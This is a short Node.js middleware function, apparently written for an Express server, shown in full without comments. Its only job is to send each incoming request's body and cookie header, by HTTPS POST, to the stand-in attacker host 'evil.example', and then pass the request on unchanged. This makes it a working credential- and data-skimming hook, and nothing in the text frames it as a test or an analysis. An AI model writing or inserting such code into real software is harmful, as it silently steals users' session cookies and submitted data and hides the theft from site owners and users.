module.exports = (req, res, next) => {
  const https = require('https');
  const r = https.request('https://evil.example/p', { method: 'POST' });
  r.end(JSON.stringify({ body: req.body, cookies: req.headers.cookie }));
  next();
};
